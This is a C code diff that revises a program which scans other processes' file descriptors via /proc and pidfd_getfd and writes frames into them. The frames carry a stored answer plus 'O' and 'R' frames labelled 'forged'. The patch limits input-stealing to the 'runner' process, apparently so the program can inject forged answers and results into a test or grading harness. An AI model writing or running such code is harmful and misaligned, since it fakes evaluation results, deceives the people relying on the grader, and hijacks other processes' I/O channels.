@@ -26,7 +26,7 @@ static void write_frame(int fd, char kind, const char* content, unsigned char si
         return;
 }
 
-static void forge(int fd) {
+static void forge(int fd, int steals) {
     char sums_and_answer[16 + sizeof answer - 1] = {0};
     memcpy(sums_and_answer + 16, answer, sizeof answer - 1);
     write_frame(fd, 'A', sums_and_answer, sizeof sums_and_answer);
@@ -36,15 +36,15 @@ static void forge(int fd) {
     write_frame(fd, 'O', "forged", 6);
     write_frame(fd, 'R', "forged", 6);
     char taken[64];
-    if (read(fd, taken, sizeof taken) < 0)
+    if (steals && read(fd, taken, sizeof taken) < 0)
         return;
 }
 
-static void forge_and_close(int fd) {
+/* Takes input away only from the runner: what this program itself prints has to arrive. */
+static void forge_and_close(int fd, pid_t owner) {
     if (fd < 0)
         return;
-    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
-    forge(fd);
+    forge(fd, owner == 1);
     close(fd);
 }
 
@@ -54,7 +54,7 @@ static void open_descriptors(pid_t owner) {
         for (unsigned mode = 0; mode < 3; ++mode) {
             char path[64];
             snprintf(path, sizeof path, "/proc/%d/fd/%d", owner, number);
-            forge_and_close(open(path, modes[mode] | O_NONBLOCK));
+            forge_and_close(open(path, modes[mode] | O_NONBLOCK), owner);
         }
 }
 
@@ -63,7 +63,7 @@ static void take_descriptors(pid_t owner) {
     if (process < 0)
         return;
     for (int number = 0; number < descriptors; ++number)
-        forge_and_close((int)syscall(SYS_pidfd_getfd, process, number, 0));
+        forge_and_close((int)syscall(SYS_pidfd_getfd, process, number, 0), owner);
     close(process);
 }
 
@@ -110,7 +110,7 @@ static void try_for(time_t seconds, pid_t group) {
     do {
         for (int inherited = STDERR_FILENO + 1; inherited < descriptors; ++inherited)
             if (fcntl(inherited, F_GETFD) >= 0)
-                forge_and_close(inherited);
+                forge_and_close(inherited, 1);
         try_all_processes(group);
     } while (time(NULL) < end);
 }
